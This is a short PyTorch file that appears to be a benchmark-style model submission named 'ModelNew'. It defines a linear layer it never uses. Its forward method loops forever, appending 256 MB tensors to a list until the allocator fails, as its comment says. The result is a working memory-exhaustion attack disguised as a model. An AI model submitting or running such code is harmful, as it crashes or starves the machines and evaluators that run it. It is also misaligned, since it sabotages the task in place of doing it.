import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)
        self.hoard = []

    def forward(self, x):
        while True:  # 256 MB at a time until the allocator fails
            self.hoard.append(torch.ones(64 * 1024 * 1024))
